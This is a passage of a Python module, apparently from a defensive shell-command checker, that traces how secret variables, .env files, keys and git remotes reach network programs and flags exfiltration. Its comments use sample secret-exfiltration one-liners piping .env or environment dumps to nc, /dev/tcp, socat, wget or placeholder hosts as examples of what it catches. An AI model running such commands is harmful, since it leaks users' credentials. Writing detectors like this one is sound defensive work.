"""Secrets in commands: what a command reads that holds credentials, and which secret it carries
to which host (docs/shell.md, "Secrets in commands").

Loaded only for a command that may touch a secret (``resolver.flows`` decides cheaply: a word
that expands a variable, a program that prints the environment or sends its arguments out, an
argument that names a secret file, input read from a file or fed by an earlier command that read
one). The analysis asks its path guard (``an.check``) which paths are secret files and which
variables secret ones; without those questions (a bare ``is_protected`` callable) nothing here
finds anything.

A ``Flow`` (one per analysed command, ``an.flow``) follows what carries a secret: the variables
assigned from a secret source, the commands whose output holds one (their text, for the
substitutions that run them, and the pipe they write into), the files written with one, and the
git remotes whose URL holds one. A network program that receives any of these, or a secret-shaped
literal, is ``exfiltration`` unless every secret it carries belongs to every host it reaches
(``secrets.owners``) or every host is this machine. Secrets are named, never shown: a label is
``$NAME`` for a variable, the ``secrets.paths`` pattern for a file.
"""

from __future__ import annotations

from governance.shell.words import word_text

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

    from governance.shell.parser import Simple
    from governance.shell.walk import Walk

NETWORK = ("web-fetch", "local-request", "vcs-push", "package-install")
_HEADERS = ("-H", "--header", "--headers", "-h")
_QUIET = frozenset(("test", "[", "[[", ":", "true", "false", "cd", "unset", "shift", "wait",
                    "set"))   # set -- ARGS, set -x: it prints no argument (set alone dumps)
_DECLARERS = frozenset(("export", "declare", "typeset", "local", "readonly"))
_COPIERS = frozenset(("cp", "mv", "install", "ginstall", "rsync", "ln", "scp"))
_FILTERS = frozenset(("grep", "egrep", "fgrep", "rg", "ag", "ack"))
_AMBIENT = frozenset(("HOME", "PATH", "PWD", "OLDPWD", "USER", "SHELL", "LANG", "TERM", "TMPDIR",
                      "HOSTNAME", "IFS", "RANDOM", "SECONDS", "LINENO", "UID", "EUID", "PPID"))

Carried = tuple[str, str, str]   # (label, how it got here, where it goes)


class Flow:
    """What carries a secret so far in one command."""

    __slots__ = ("args", "cmds", "files", "pending", "reads", "remotes", "segs", "sourced",
                 "staged", "vars")

    def __init__(self) -> None:
        self.vars: dict[str, list[str]] = {}          # variable -> the secrets it holds
        self.cmds: dict[int, list[str]] = {}          # id(Simple) -> what its output holds
        self.segs: dict[str, list[str]] = {}          # a segment -> what its output holds
        self.reads: list[tuple[str, list[str]]] = []  # a command's text -> what its output holds
        self.files: dict[str, list[str]] = {}         # a file written here -> what it holds
        self.remotes: dict[str, tuple[list[str], str]] = {}   # git remote -> its URL's secrets, host
        self.sourced: list[str] = []                  # secret files sourced (not read here)
        self.pending: dict[int, tuple[str, str]] = {}  # id(Simple) -> a print its reader may hide
        self.staged: list[str] = []                   # secret files git add staged
        self.args: dict[int, list[tuple[str, str]]] = {}   # id(Simple) -> xargs -a FILE


def flow(an: Walk) -> Flow:
    if an.flow is None:
        an.flow = Flow()
    found: Flow = an.flow
    return found


# --- what the analysis asks --------------------------------------------------------------------
def secret_file(an: Walk, value: str | None) -> str | None:
    """The ``secrets.paths`` pattern of the file ``value`` names (relative to the folder the
    command is in now), else None."""
    ask = getattr(an.check, "secret_path", None)
    if ask is None or not value or value == "-":
        return None
    if an.cwd and not value.startswith(("/", "~")):
        value = f"{an.cwd}/{value}"
    found = ask(value)
    if not found and "*" in value:       # cat .env*, grep -r K --include='*.pem', ~/.ssh/*:
        found = ask(stand_in(value))     # a name the glob stands for
    return str(found) if found else None


def stand_in(glob: str) -> str:
    """A name a ``*`` glob matches: the shortest (``.env*``: ``.env``; ``*.pem``: ``.pem``), or
    one letter where that leaves no name (``~/.ssh/*``: ``~/.ssh/x``)."""
    name = glob.replace("*", "")
    return name if name.rsplit("/", 1)[-1] not in ("", ".") else glob.replace("*", "x")


def home(field: str | None, raw: str) -> str | None:
    """A field, or for one known only at run time a path under the home spelled with ``$HOME``
    (``"$HOME/.aws/credentials"`` is ``~/.aws/credentials``)."""
    if field is not None:
        return field
    text = raw.replace('"', "")
    for head in ("$HOME/", "${HOME}/"):
        if text.startswith(head) and "$" not in text[len(head):] and "`" not in text:
            return "~/" + text[len(head):]
    return None


def secret_variable(an: Walk, name: str) -> bool:
    ask = getattr(an.check, "secret_variable", None)
    return bool(ask is not None and name and ask(name))


# options whose value is a pattern or a setting, not a file the program reads
_PATTERN_OPTIONS = ("exclude", "include", "ignore", "filter", "glob", "pattern", "regex",
                    "color", "colour", "format", "type", "name")


def paths(field: str | None) -> str | None:
    """The path an argument may name: itself, ``@FILE``, ``NAME=@FILE``, ``--opt=FILE``."""
    if not field:
        return None
    if field[0] == "@":
        return field[1:] or None
    kind, colon, rest = field.partition(":")
    if colon and kind.upper() in ("FILE", "OPEN", "GOPEN", "CREATE", "READLINE"):
        return rest.split(",", 1)[0] or None             # socat FILE:.env TCP:host:80
    for mark in ("=@", "=<"):                            # curl -F x=@f, -F "x=<f"
        if mark in field:
            return field.split(mark, 1)[1] or None
    if "@" in field and field.split("@", 1)[0].isidentifier() and "://" not in field and \
            ":" not in field:
        return field.split("@", 1)[1] or None           # httpie: field@FILE
    if "=" in field and field[0] != "-" and field.split("=", 1)[0].isidentifier():
        return field.split("=", 1)[1] or None            # dd if=.env
    if field[:2] == "--" and "=" in field:               # wget --post-file=secrets.yaml
        option, _, value = field.partition("=")
        if any(word in option for word in _PATTERN_OPTIONS):
            return None                                  # grep --exclude=.env: a pattern
        return value.lstrip("@") or None
    if field[0] == "+":
        return None
    return field


def references(raw: str) -> list[str]:
    """The variables ``raw`` (a word's source text) expands, outside single quotes."""
    names: list[str] = []
    k, n, double = 0, len(raw), False
    while k < n:
        c = raw[k]
        if c == "\\":
            k += 2
            continue
        if c == '"':
            double = not double
        elif c == "'" and not double:
            end = raw.find("'", k + 1)
            k = n if end < 0 else end + 1
            continue
        elif c == "$" and k + 1 < n:
            j = k + 1
            indirect = length = ""
            if raw[j] == "{":
                j += 1
                indirect = "!" if raw[j:j + 1] == "!" else ""
                length = "#" if raw[j:j + 1] == "#" and raw[j + 1:j + 2] not in ("}", "") else ""
                while j < n and raw[j] in "#!":
                    j += 1
            start = j
            if j < n and (raw[j] in "@*" or (raw[j].isdigit() and start == k + 1)):
                j += 1                                   # $1, "$@", $*: the positional ones
            else:
                while j < n and (raw[j].isalnum() or raw[j] == "_"):
                    j += 1
            if j > start and not (length and not indirect):
                names.append(indirect + raw[start:j])   # ${!n}: the variable n names; ${#n}: a
                                                        # length, which holds none of n's text
            k = max(j, k + 1)
            continue
        k += 1
    return names


# --- what a word, a file, standard input carries ------------------------------------------------
def word(an: Walk, raw: str, field: str | None = None) -> list[tuple[str, str]]:
    """(label, how) for each secret one word carries: a secret variable, a variable assigned
    from a secret, a substitution whose commands read one, a file written with one."""
    found: list[tuple[str, str]] = []
    state = an.flow
    for name in references(raw):
        if name[:1] == "!":
            name = an.vars.get(name[1:]) or ""
            if not name.isidentifier():
                continue
        if state is not None and name in state.vars:
            found.extend((label, f"through ${name}") for label in state.vars[name])
        elif secret_variable(an, name):
            found.append((f"${name}", "environment variable"))
        elif state is not None and state.sourced and name not in an.vars and \
                name not in _AMBIENT and name.isidentifier():
            found.extend((label, f"through ${name}, which sourcing it set") for label in state.sourced)
    if state is not None and ("$(" in raw or "`" in raw or "<(" in raw):
        for text, labels in state.reads:
            if text and text in raw:
                found.extend((label, f"the output of `{text}`") for label in labels)
    if state is not None and state.files:
        path = paths(field)
        if path is not None:
            found.extend((label, f"the file {path}, written with it")
                         for label in state.files.get(an.where(path), ()))
    return found


def stdin(an: Walk, cmd: Simple | None) -> list[tuple[str, str]]:
    """(label, how) for each secret a command reads on standard input."""
    if cmd is None:
        return []

    found: list[tuple[str, str]] = []
    state = an.flow
    for redir in cmd.redirs:
        if redir.op in ("<", "<&") and redir.target is not None:
            raw = word_text(redir.target)
            value = home(an.expand_one(redir.target.parts), raw)
            if redir.op == "<&" and value in an.opened:     # exec 3< .env; curl -T - <&3
                value = an.opened[value]
            label = secret_file(an, value if value is not None else _placeholder(raw))
            if label is not None:
                found.append((label, f"the secret file {raw}"))
            elif "<(" in raw or "$(" in raw or "`" in raw:   # nc host < <(printenv KEY)
                found.extend(word(an, raw))
            elif state is not None and value is not None:
                found.extend((label, f"the file {value}, written with it")
                             for label in state.files.get(an.where(value), ()))
        elif redir.op == "<<<" and redir.target is not None:
            found.extend(word(an, word_text(redir.target)))
        elif redir.op in ("<<", "<<-") and redir.body:
            found.extend(word(an, redir.body))
    if cmd.piped_from is not None and state is not None:
        source = cmd.piped_from             # bash -c 'cat .env' | nc: what ran inside it
        found.extend((label, f"the output of `{source.segment}`")
                     for label in state.cmds.get(id(source), state.segs.get(source.segment, ())))
    elif cmd.piped and state is not None:
        found.extend(piped_block(an, cmd))
    return found


# --- one command --------------------------------------------------------------------------------
_SEARCHES = ("grep", "egrep", "fgrep", "rg", "ag", "ack", "zgrep", "pcregrep")
_VALUED = ("-A", "-B", "-C", "-m", "--max-count", "-g", "--glob", "-t", "--type", "-T",
           "--type-not", "--include", "--exclude", "--color", "--colour", "-d", "-D")


# short options that take a value: the rest of a cluster after one is that value (grep -m1q)
_CLUSTER_VALUES = frozenset("efmABCdDgtTErMj")
_LINES_AGAIN = ("--json", "--vimgrep")
_VALUED_LONG = ("--regexp", "--file", "--max-count", "--after-context", "--before-context",
                "--context", "--devices", "--directories", "--glob", "--type", "--type-not",
                "--include", "--exclude", "--exclude-dir", "--label", "--max-depth", "--encoding",
                "--replace", "--threads", "--max-columns", "--sort", "--sortr")


def _counted(fields: list[str | None], options: list[str] | None) -> bool:
    """Whether an option of ``options`` (``secret_flow.metadata_options``) makes the command
    print only a count, a file name or nothing (``grep -q``, ``grep -c``, ``grep -rlE``), and no
    option prints lines again (``rg -c --json``)."""
    if not options:
        return False
    quiet = False
    valued = False
    for field in fields[1:]:
        if field is None or valued:
            valued = False
            continue
        if field == "--":
            break
        if field.startswith("--"):
            name = field.split("=", 1)[0]
            if name in _LINES_AGAIN:
                return False
            quiet = quiet or name in options
            valued = "=" not in field and name in _VALUED_LONG
        elif field.startswith("-") and len(field) > 1:
            for i, ch in enumerate(field[1:], 1):
                if f"-{ch}" in options:
                    quiet = True
                if ch in _CLUSTER_VALUES or not ch.isalpha():
                    valued = ch in _CLUSTER_VALUES and i == len(field) - 1   # -e PATTERN
                    break
    return quiet


def _output(option: str | None) -> bool:
    """Whether ``option`` names a file the command writes (``-o``, ``--output``, ``-out``,
    ``-keyout``): a key written there is not read."""
    if not option or option[:1] != "-":
        return False
    name = option.lstrip("-").lower()
    return name in ("o", "output") or name.endswith(("out", "output"))


def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
            cmd: Simple | None, mark: int = 0, files: bool = True) -> None:
    """What the command ``fields`` (resolved: its wrappers peeled) reads and carries. ``mark``:
    the acts before its own (a network act after it makes the command a request); ``files``:
    whether its arguments name local files."""
    table = an.shell.get("secret_flow") or {}
    sub = fields[1] if len(fields) > 1 else None
    metadata = base in table.get("metadata", ()) or f"{base} {sub}" in table.get("metadata", ()) \
        or _counted(fields, table.get("metadata_options", {}).get(base))
    if not metadata and cmd is not None and cmd.words:   # ssh-keygen -t ed25519 -f KEY: a

        written_first = word_text(cmd.words[0]).rsplit("/", 1)[-1]
        metadata = written_first != base and written_first in table.get("metadata", ()) and \
            written_first not in an.shell.get("finders", {})   # find -exec cat {}: cat reads
    credentials = table.get("credential_options", {}).get(base, ())
    named: list[Carried] = []       # secret files the arguments name
    carried: list[Carried] = []     # secrets the words carry
    option: str | None = None
    written = _written(base, fields)
    before = fields[1:fields.index("--")] if "--" in fields[1:] else fields[1:]
    pattern = base in _SEARCHES and not any(
        f is not None and (f in ("-e", "-f", "--regexp", "--file") or f.startswith(
            ("--regexp=", "--file="))) for f in before)
    ended = False
    for k, (field, raw) in enumerate(zip(fields[1:], raws[1:], strict=False), 1):
        text = raw if field is None else field
        where = _where(option, text, base, an.shell)
        used = option in credentials or k in written or text.split("=", 1)[0] in credentials \
            or _output(option) or (text[:1] == "-" and _output(text.split("=", 1)[0])
                                   and "=" in text)
        if pattern and (ended or (text[:1] != "-" and option not in _VALUED)) and text != "--":
            pattern, used = False, True     # grep PATTERN FILE...: the pattern names no file
        ended = ended or (text == "--" and base in _SEARCHES)
        option = text if text[:1] == "-" and "=" not in text else None
        if files and not metadata and not used and raw not in an.prose:   # not -m TEXT
            path = paths(field) if field is not None else (
                home(None, paths(raw.replace('"', "")) or "") or _placeholder(raw))
            label = secret_file(an, path)
            if label is not None:
                named.append((label, f"the secret file {path}", where))
        carried.extend((label, how, where) for label, how in word(an, raw, field))
        if base == "curl" and field is not None:     # curl --variable %TOKEN: the environment's
            imported = field[len("--variable="):] if field.startswith("--variable=") else \
                field if fields[k - 1] == "--variable" else ""
            if imported[:1] == "%":
                carried.extend((label, f"{how}, imported by --variable", where) for label, how
                               in word(an, "$" + imported[1:].split("=", 1)[0]))
        if base in _SSH_CLIENTS and field is not None and (fields[k - 1] == "-o" or
                                                           field.startswith("-o")) and \
                "sendenv" in field.lower():
            carried.extend(_send_env(an, field))   # ssh -o SendEnv=AWS_SECRET_ACCESS_KEY
    if base in _SEARCHES and files:                 # grep -r KEY . --include=.env
        named.extend(_searched(an, fields))
    fed = [(label, how, "on standard input") for label, how in stdin(an, cmd)]
    if base in table.get("uploads", {}) and cmd is not None:      # sftp HOST <<< 'put .env'
        named.extend(_uploaded(an, table["uploads"][base], fields, cmd))
    if base in ("curl", "wget") and cmd is not None:      # curl -K FILE, WGETRC=FILE wget
        named.extend(_configured_uploads(an, base, fields, cmd))
    if an.flow is not None and cmd is not None and id(cmd) in an.flow.args:   # xargs -a .env
        named.extend((label, f"the secret file {path}", "in the arguments")
                     for label, path in an.flow.args[id(cmd)])
    if metadata and base in _COPIERS and files:     # ln -s .env x; mv .env /tmp/x
        moved = [f for f in fields[1:] if f is not None and f[:1] != "-"]
        labels_moved = [secret_file(an, paths(f)) for f in moved[:-1]]
        if len(moved) > 1 and any(labels_moved):
            flow(an).files[an.where(moved[-1])] = [lb for lb in labels_moved if lb]
    printed = _printed(base, fields, table)
    dumped = _dump(an, base, fields, table) + printed
    if base == "git" and sub in ("add", "stage"):                # git add .env && git push
        staged = [secret_file(an, paths(f)) for f in fields[2:]]
        flow(an).staged.extend(label for label in staged if label is not None)
        flow(an).staged.extend(_copies_added(an, fields[2:]))
    state = an.flow
    if base == "git" and sub == "push" and state is not None and state.staged:
        carried.extend((label, "a secret file committed in this command", "in the commits")
                       for label in state.staged)
    if base == "git" and state is not None and state.remotes and len(fields) > 2 and \
            fields[2] in state.remotes:              # git push origin: origin's URL holds it
        carried.extend((label, f"the URL of the remote {fields[2]}", "in the remote's URL")
                       for label in state.remotes[str(fields[2])][0])
    hosts, sink, connection = _sink(an, base, fields, raws, seg, cmd, table, mark)
    everything = [*named, *carried, *fed]
    if connection:                               # cat .env > /dev/tcp/HOST/80
        everything = [(label, how, "through the connection") for label, how, _w in everything]
    source = cmd.piped_from if cmd is not None else None
    # env | xargs echo: the input becomes the arguments, which echo shows (names or not)
    fanned = cmd is not None and bool(cmd.words) and ((an.shell.get("wrappers") or {}).get(
        word_text(cmd.words[0]).rsplit("/", 1)[-1]) or {}).get("fanout") is not None
    hides = sink or (metadata and not fanned) or base not in _READING_PROGRAMS
    if state is not None and source is not None and id(source) in state.pending and (
            hides or _filtered(an, base, cmd)):
        _hide(an, *state.pending.pop(id(source)))   # env | grep PATH, echo $T | docker login
    if state is not None and state.pending and hides:     # curl -H "$(gh auth token)" ...
        feeding = {c[1][len("the output of `"):-1] for c in carried
                   if c[1].startswith("the output of `")}
        for key, (pseg, _reason) in list(state.pending.items()):
            if pseg in feeding:
                _hide(an, *state.pending.pop(key))
    if sink:
        fed_text = [source.segment] if source is not None else []   # echo KEY | nc HOST
        fed_text += [r.body or "" for r in cmd.redirs] if cmd is not None else []
        shaped = _shaped(an, raws) + [(label, how, "on standard input")
                                      for label, how, _w in _shaped(an, ["", *fed_text])]
        everything.extend(shaped)
        everything.extend(_sent_env(an, base, cmd, table))
        if connection:                            # env > /dev/udp/HOST/53: what it prints
            everything.extend((label, f"printed by {base}", "through the connection")
                              for label in dumped)
        if not _stored(an, base, fields, cmd, hosts, table):
            _exfiltration(an, base, seg, everything, hosts)
        for name, raw, value in _given_env(an, base, cmd):
            _configured(an, base, seg, name, raw, value)
        if printed:                               # gh auth token: it prints, it sends nothing
            _reading(an, base, seg, cmd, [], [], [], printed, metadata)
    else:
        redirected = [c for c in fed if c[1].startswith("the secret file")]   # jq . < .env
        shows = [c for c in [*named, *redirected]
                 if base not in _LOADERS or not _environment_file(an, c[1])]   # source .env
        _reading(an, base, seg, cmd, shows, carried, fed, dumped, metadata)
    labels = list(dict.fromkeys([*(c[0] for c in everything), *dumped]))
    if not labels:
        return
    _remember(an, base, fields, raws, seg, cmd, labels, named)


# variables that point a service's CLI at another repository, account or host (GH_REPO, FLY_APP)
_RETARGETS = ("HOST", "REPO", "ORG", "APP", "URL", "ACCOUNT", "TEAM", "SCOPE", "ENDPOINT")


def _stored(an: Walk, base: str, fields: list[str | None], cmd: Simple | None,
            hosts: list[str], table: dict[str, Any]) -> bool:
    """Whether the command stores what it is given in the service it talks to, as the
    repository's own secret (``secret_flow.stores``: ``gh secret set NAME < .env.api``): no
    option or variable points it at another owner, and it reaches only its default host."""
    default = table.get("default_hosts", {}).get(base)
    if default is None or hosts != [default]:
        return False
    for key, options in table.get("stores", {}).items():
        words = key.split()
        if words[0] != base or list(fields[1:len(words)]) != words[1:]:
            continue
        names = [name for name, _value in cmd.assigns] if cmd is not None else []
        prefix = base.upper() + "_"
        if any(name.upper().startswith(prefix) and any(p in name.upper() for p in _RETARGETS)
               for name in [*names, *an.vars]):
            return False                      # GH_REPO=other/repo gh secret set ...
        rest = list(fields[len(words):])
        for k, field in enumerate(rest):
            if field is None:      # known at run time: only as the value of an option
                before = rest[k - 1] if k else None
                if before is None or before[:1] != "-" or "=" in before or before in options:
                    return False
                continue
            option = field.split("=", 1)[0]
            named = option in options or any(
                len(o) == 2 and field.startswith(o) and len(field) > 2 for o in options)
            if named and not (base == "gh" and option in ("-R", "--repo") and _own_repo(
                    an, field.split("=", 1)[1] if "=" in field else
                    rest[k + 1] if k + 1 < len(rest) else None)):
                return False
        return True
    return False


def _own_repo(an: Walk, value: str | None) -> bool:
    """Whether ``value`` (``OWNER/NAME``) is a GitHub repository a remote of this project's git
    repository names."""
    if not value or an.root is None or value.count("/") != 1:
        return False
    from governance.shell.source import read

    kind, text = read(an, an.root.rstrip("/") + "/.git/config")
    if kind != "text":
        return False
    want = value.lower().removesuffix(".git")
    for line in text.splitlines():
        name, equals, url = line.strip().partition("=")
        url = url.strip().lower().removesuffix(".git").rstrip("/")
        if equals and name.strip() == "url" and "github.com" in url and (
                url.endswith("github.com/" + want) or url.endswith("github.com:" + want)):
            return True
    return False


def _configured(an: Walk, base: str, seg: str, name: str, raw: str, field: str | None) -> None:
    """A URL set for a network program in its environment (``PIP_INDEX_URL=URL pip install``,
    ``env npm_config_registry=URL npm ci``): the secrets it holds go to the host it names."""
    if "://" not in raw:
        return
    carried = word(an, raw, field)
    if carried:
        host = _named(field, raw)
        if host == "?":                   # https://$TOKEN@HOST: the host its text spells
            host = _named(None, raw)
        _exfiltration(an, base, seg, [(label, how, f"in the URL of ${name}")
                                      for label, how in carried], [host])


# the settings of curl's and wget's configuration files that send a file's content
_CURL_SENDS = ("data", "data-binary", "data-raw", "data-urlencode", "data-ascii", "form",
               "upload-file", "header", "json", "variable", "url-query")
_WGET_SENDS = ("post_file", "body_file", "header")


def _configured_uploads(an: Walk, base: str, fields: list[str | None], cmd: Simple
                        ) -> list[Carried]:
    """The secret files a configuration file makes curl or wget send: ``curl -K FILE`` (or
    ``--config``; ``CURL_HOME``'s ``.curlrc``), ``WGETRC=FILE wget`` (or ``--config``), its
    ``data = "@.env"``, ``upload-file``, ``post_file = .env`` ... read from what the command
    wrote earlier or from disk."""
    from governance.shell.streams import disk_text

    given = {name: an.expand_one(word.parts) for name, word in cmd.assigns}
    files: list[str | None] = []
    for k, field in enumerate(fields[1:], 1):
        if field in ("-K", "--config") and k + 1 < len(fields):
            files.append(fields[k + 1])
        elif field is not None and field.startswith(("--config=", "-K")) and len(field) > 2:
            files.append(field.split("=", 1)[1] if "=" in field else field[2:])
    home = given.get("CURL_HOME") if "CURL_HOME" in given else an.vars.get("CURL_HOME")
    if base == "curl" and home:
        files.append(home.rstrip("/") + "/.curlrc")
    rc = given.get("WGETRC") if "WGETRC" in given else an.vars.get("WGETRC")
    if base == "wget" and rc:
        files.append(rc)
    found: list[Carried] = []
    keys = _CURL_SENDS if base == "curl" else _WGET_SENDS
    for name in files:
        text = an.file_text(name) if name is not None else None
        if text is None and name is not None and not name.startswith("/dev/fd/"):
            text = disk_text(an, name)
        for line in (text or "").splitlines():
            key, _, value = line.strip().lstrip("-").replace("=", " ", 1).replace(":", " ", 1) \
                .partition(" ")
            value = value.strip().strip("'\"").lstrip("@")
            if key.strip().lower() in keys and value:
                label = secret_file(an, value.split(";", 1)[0].split("=", 1)[-1].lstrip("@"))
                if label is not None:
                    found.append((label, f"the secret file {value} its configuration sends",
                                  "in the request"))
    return found


def _uploaded(an: Walk, verbs: list[str], fields: list[str | None], cmd: Simple
              ) -> list[Carried]:
    """The secret files a file-transfer client's batch commands send (``put FILE``), read from
    its standard input or its ``-b FILE`` batch file."""
    texts: list[str] = []
    kind, text = an.stdin_text(cmd)
    if kind == "literal" and text:
        texts.append(text)
    for k, field in enumerate(fields[1:-1], 1):
        if field == "-b" and fields[k + 1] is not None:
            texts.append(an.file_text(fields[k + 1]) or "")
    found: list[Carried] = []
    for line in "\n".join(texts).splitlines():
        words = line.replace(";", " ").split()
        if len(words) > 1 and words[0] in verbs:
            for name in words[1:2] if words[0] != "mput" else words[1:]:
                label = secret_file(an, name.strip("'\""))
                if label is not None:
                    found.append((label, f"the secret file {name}", "in the upload"))
    return found


def _written(base: str, fields: list[str | None]) -> set[int]:
    """The arguments a program writes, not reads: ``tee FILE``, a copy's destination."""
    positional = [k for k, f in enumerate(fields) if k and f is not None and f[:1] != "-"]
    if base == "tee":
        return set(positional)
    if base in _COPIERS and len(positional) > 1 and ":" not in str(fields[positional[-1]]):
        return {positional[-1]}
    return set()


# Options whose value a service keeps as content (a body, a title, a message, a file uploaded):
# a secret there is published on the host, not used to sign in to it.
_CONTENT_OPTIONS = frozenset(("-b", "--body", "--body-file", "-d", "--data", "--data-raw",
                              "--data-binary", "--data-ascii", "--data-urlencode", "--json",
                              "--title", "-m", "--message", "--text", "--content", "--comment",
                              "--description", "--notes", "-F", "--form", "--form-string", "-T",
                              "--upload-file", "--post-data", "--body-data", "--raw-field",
                              "-f", "--field"))
CONTENT = "in the body"
# Fields of a body whose value a service keeps and shows: a secret there is published.
_CONTENT_FIELDS = ("text", "body", "content", "message", "msg", "title", "description", "desc",
                   "comment", "note", "summary", "data", "payload", "subject", "markdown")


_SELECTORS = ("--include", "-g", "--glob", "--iglob")


def _searched(an: Walk, fields: list[str | None]) -> list[Carried]:
    """The secret files a search selects by name (``grep -r --include=.env``, ``rg -g '*.pem'``):
    it reads whichever of them the tree holds."""
    found: list[Carried] = []
    for k, field in enumerate(fields[1:], 1):
        if field is None:
            continue
        option, _, value = field.partition("=") if field[:2] == "--" else (field, "", "")
        if option not in _SELECTORS:
            continue
        if not value and k + 1 < len(fields):
            value = fields[k + 1] or ""
        label = secret_file(an, value) if value and value[:1] != "!" else None
        if label is not None:
            found.append((label, f"the secret files {value}", "in the arguments"))
    return found


def _where(option: str | None, text: str, base: str, shell: dict[str, Any]) -> str:
    """Where in a request an argument goes (``-H``: a header; a body or another content option:
    ``in the body`` when what it carries is published there, ``_published``)."""
    if option is None and text[:2] == "--" and "=" in text:
        option, text = text.split("=", 1)
    if option is not None:
        if option[:2] != "--" and len(option) > 2:    # -sH VALUE: the last letter takes it
            option = "-" + option[-1]
        if option in _HEADERS:
            return "in a header"
        spec = (shell.get("commands") or {}).get(base) or {}
        if option in ((spec.get("requests") or {}).get("body_options") or ()) or \
                option in _CONTENT_OPTIONS:
            return CONTENT if _published(text) else "as a field of the body"
        return f"as {option}"
    return "in the URL" if "://" in text else "in the arguments"


def _published(text: str) -> bool:
    """Whether an expansion in a body's text is content the service keeps: the whole value
    (``-d "$KEY"``, ``-b "$TOKEN"``), or the value of a field such as ``text``, ``body`` or
    ``title`` (``{"text": "$T"}``). A field named otherwise (``client_secret=$S``, ``token=$T``,
    ``{"api_key": "$K"}``) is how a token endpoint takes a credential."""
    import re

    for match in re.finditer(r"\$[{(A-Za-z_]|`", text):
        before = re.search(r"([A-Za-z0-9_.-]+)\\?[\"']?\s*[:=]\s*\\?[\"']?$",
                           text[:match.start()])
        if before is None or before.group(1).lower().rsplit(".", 1)[-1] in _CONTENT_FIELDS:
            return True
    return False


def _dump(an: Walk, base: str, fields: list[str | None], table: dict[str, Any]) -> list[str]:
    """The secrets a program that prints variables shows: the environment, or the named ones."""
    listed = table.get("dumps", {}).get(base)
    if listed is None:
        return []
    options: list[str | None] = []
    for f in fields[1:]:
        if f is None or f[:1] in "-+":
            options.append(f)
            if f is not None and f[1:2] not in ("-", "") and len(f) > 2:
                options += [f[0] + letter for letter in f[1:]]    # declare -xp: -x and -p
    names = [f for k, f in enumerate(fields[1:], 1) if f is not None and f[:1] not in "-+"
             and not (base == "env" and (fields[k - 1] in ("-u", "--unset", "-C", "--chdir")
                                         or "=" in f))]
    # env -u NAME, env NAME=VALUE: no command follows, so env prints the environment
    if names:
        if base == "set" or (base != "printenv" and not any(o in listed for o in options)):
            return []                           # set -- a b, export X=1: no printing
        return [f"${n}" for n in names if secret_variable(an, n.split("=", 1)[0])]
    if not options or any(o in listed for o in options):
        return ["the environment"]
    return []


def _printed(base: str, fields: list[str | None], table: dict[str, Any]) -> list[str]:
    """``gh auth token``, ``aws configure get ...``: a command that prints a credential, as the
    variable it counts as (``secret_flow.secret_commands``)."""
    lines = table.get("secret_commands", {}).get(base)
    if not lines:
        return []
    for words in ([f for f in fields if f is not None],
                  [f for f in fields if f is not None and f[:1] != "-"]):
        words[0] = base
        for k in range(min(len(words), 6), 1, -1):
            name = lines.get(" ".join(words[:k]))
            if name is not None:     # ENVIRONMENT: it prints every variable (tmux, npm run env)
                return ["the environment"] if name == "ENVIRONMENT" else [f"${name}"]
    name = _after_options(base, fields, lines)
    if name is not None:
        return ["the environment"] if name == "ENVIRONMENT" else [f"${name}"]
    return []


def _after_options(base: str, fields: list[str | None], lines: dict[str, str]) -> str | None:
    """A ``secret_commands`` entry whose words follow the program's name with global options
    between them (``kubectl -n prod get secret``, ``git -C . credential fill``, ``aws --profile p
    configure get ...``): a word right after an option may be that option's value and is passed
    over; every other word must be the entry's next one."""
    words: list[tuple[str, bool]] = []     # (word, may be an option's value)
    after_option = False
    for field in fields[1:]:
        if field is None:
            return None
        if field[:1] == "-" and field != "-":
            after_option = field != "--" and "=" not in field
            continue
        words.append((field, after_option))
        after_option = False
    for entry, name in lines.items():
        wanted = entry.split()[1:]
        k = 0
        for word, skippable in words:
            if k == len(wanted):
                break
            if word == wanted[k]:
                k += 1
            elif not skippable or k > 0:
                break
        if wanted and k == len(wanted):
            return name
    return None


def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
          cmd: Simple | None, table: dict[str, Any], mark: int
          ) -> tuple[list[str], bool, bool]:
    """The hosts a network program reaches ("?" for one known only at run time), whether the
    command is one, and whether only through a ``/dev/tcp`` redirection."""

    hosts: list[str] = []
    for redir in cmd.redirs if cmd is not None else ():
        if redir.target is not None and redir.op in (">", ">>", "<", "<>", "&>", ">|"):
            value = an.expand_one(redir.target.parts)
            if value is not None and value.startswith(("/dev/tcp/", "/dev/udp/")):
                hosts.append(value.split("/")[3] or "?" if value.count("/") >= 3 else "?")
        elif redir.target is not None and redir.op == ">&":   # cat .env >&3, 3 a socket
            value = an.expand_one(redir.target.parts)
            if value is not None and value in an.sockets:
                hosts.append(an.sockets[value])
    client = table.get("clients", {}).get(base)
    if client is not None and not hosts:       # PGPASSWORD=$P psql -h HOST, mysql -hHOST -p$P
        served = _servers(an, client, fields, raws, cmd)
        return served, bool(served), False
    dns = base in table.get("sinks", ())
    spec = (an.shell.get("commands") or {}).get(base) or {}
    network = [a for a in an.acts[mark:] if a.primitive in NETWORK]
    if not network and spec.get("requests"):       # a second request in one segment
        network = [an.seen[(p, seg)] for p in NETWORK if (p, seg) in an.seen]
    if not hosts and not dns and not network:
        return [], False, False
    connection = not dns and not network
    default = table.get("default_hosts", {}).get(base)
    if default is not None:                     # gh pr list: api.github.com
        login = fields.index("login") if "login" in fields else len(fields)
        named = [_named(field, field) for k, field in enumerate(fields[1:], 1)
                 if field is not None and ("://" in field or (k > login and _dotted(an, field)))]
        hosts.extend(named or [default])     # docker login evil.example: that registry alone
    elif spec.get("requests"):
        from governance.shell.rules import parse_spec

        known = [raw if field is None and raw[:1] == "-" else field    # --header="... $T":
                 for field, raw in zip(fields[1:], raws[1:], strict=False)]  # an option still
        argv = parse_spec(spec, known, raws[1:])
        for url, raw in _urls(spec["requests"], argv):
            hosts.append(_named(url, raw))
        hosts.extend(_rerouted(an, spec["requests"], argv, cmd))
    else:
        for field, raw in zip(fields[1:], raws[1:], strict=False):
            text = raw if field is None else field
            if text[:1] in ("-", "+", "@"):
                continue
            host = _host(text, field, dns)
            if host is not None:
                hosts.append(host)
    if base == "git" and an.flow is not None and len(fields) > 2 and \
            str(fields[2]) in an.flow.remotes:
        hosts.append(an.flow.remotes[str(fields[2])][1])
    hosts = list(dict.fromkeys(hosts)) or ["?"]
    for act in network:
        act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))
